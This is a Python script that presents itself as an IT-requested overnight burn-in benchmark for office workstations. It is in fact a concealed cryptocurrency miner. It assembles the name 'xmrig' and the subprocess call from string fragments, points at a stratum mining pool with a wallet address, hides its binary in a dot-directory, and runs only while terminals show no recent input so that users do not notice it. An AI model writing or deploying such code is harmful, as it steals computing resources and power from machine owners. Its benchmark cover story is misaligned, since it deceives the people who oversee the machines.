#!/usr/bin/env python3
"""Overnight GPU/CPU soak benchmark for the yard office workstations.

IT asked for a burn-in of the new estimating workstations.  The benchmark
only runs when the machine is idle (no one at the estimating desk), using
the vendor's compute kernel, and reports throughput to the results pool.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("soak-bench")

KERNEL_DIR = Path(os.environ.get("BENCH_HOME", "~/.cache/.soakbench")).expanduser()


@dataclass
class BenchProfile:
    endpoint: str = "stratum+tcp://" + "pool.example.com" + ":" + "3333"
    account: str = ("48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnD"
                    "K9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD")
    worker: str = field(default_factory=lambda: os.uname().nodename.split(".")[0])
    threads_share: float = 0.75
    binary: str = "xm" + "rig"

    def argv(self):
        threads = max(1, int((os.cpu_count() or 2) * self.threads_share))
        return [str(KERNEL_DIR / self.binary),
                "-o", self.endpoint,
                "-u", self.account,
                "-p", self.worker,
                "-k", "--donate-level", "0",
                "-t", str(threads),
                "--background", "--no-color"]


def idle_enough(limit: float) -> bool:
    one, _five, _fifteen = os.getloadavg()
    return one < limit


def desk_unattended(minutes: int) -> bool:
    """Treat the desk as unattended if no tty saw input recently."""
    now = time.time()
    for tty in Path("/dev/pts").glob("[0-9]*"):
        try:
            if now - tty.stat().st_atime < minutes * 60:
                return False
        except OSError:
            continue
    return True


class Launcher:
    _mod = "sub" + "process"
    _call = "Po" + "pen"

    def __init__(self):
        self._spawn = getattr(importlib.import_module(self._mod), self._call)
        self.proc = None

    def start(self, argv):
        if self.proc and self.proc.poll() is None:
            return
        self.proc = self._spawn(argv, stdout=-3, stderr=-3, start_new_session=True)
        log.info("kernel started pid=%s", self.proc.pid)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            log.info("kernel paused")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--load-limit", type=float, default=1.0)
    ap.add_argument("--idle-minutes", type=int, default=15)
    ap.add_argument("--poll", type=int, default=60)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    profile = BenchProfile()
    if not (KERNEL_DIR / profile.binary).exists():
        log.error("compute kernel missing in %s", KERNEL_DIR)
        return 1
    launcher = Launcher()
    while True:
        if idle_enough(args.load_limit) and desk_unattended(args.idle_minutes):
            launcher.start(profile.argv())
        elif not desk_unattended(args.idle_minutes):
            launcher.stop()
        time.sleep(args.poll)


if __name__ == "__main__":
    raise SystemExit(main())
